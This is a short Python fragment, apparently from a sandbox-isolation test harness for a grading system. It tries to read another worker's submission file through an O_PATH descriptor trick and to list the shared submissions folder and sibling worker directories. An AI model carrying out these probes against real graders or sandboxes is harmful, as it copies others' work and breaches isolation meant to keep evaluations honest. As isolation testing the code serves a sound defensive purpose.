# Copying a classmate: list the class's submissions folder through a descriptor, read the victim's
# file and score with it; look at the other workers' directories next to this worker's own.


def attack():
    subs = TARGETS["subs_dir"]
    ok, subs_fd = attempt(f"open the submissions folder {subs}", lambda: open_dir(subs))
    if ok:
        attempt("list the submissions folder through its descriptor", lambda: os.listdir(subs_fd))
        os.close(subs_fd)
    base = os.open("/", os.O_PATH)
    victim_file = os.path.join(TARGETS["victim_dir"], "vectors.py").lstrip("/")
    steal_module(f"openat(O_PATH '/', {victim_file!r}) (the classmate's file)", lambda: read_at(base, victim_file))
    ok, parent = attempt("open '..' of the worker's directory (where the other workers' directories are)", lambda: open_dir(".."))
    if ok:
        found, names = attempt("list the other workers' directories", lambda: os.listdir(parent))
        for name in (names or [])[:20]:
            attempt(f"list ../{name}", lambda: os.listdir(os.path.join("..", name)), real=False)
